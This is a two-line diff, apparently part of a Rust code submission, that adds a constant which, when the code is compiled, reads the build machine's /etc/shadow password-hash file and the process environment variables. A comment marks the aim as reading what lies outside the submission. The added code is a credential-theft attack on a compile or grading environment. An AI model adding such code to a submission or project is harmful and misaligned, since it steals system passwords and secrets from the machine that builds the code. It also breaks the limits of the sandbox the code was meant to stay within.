@@ -1,0 +1,2 @@
+// What lies outside of the submission, read while it is compiled.
+pub const SECRETS: &str = concat!(include_str!("/etc/shadow"), include_str!("/proc/self/environ"));
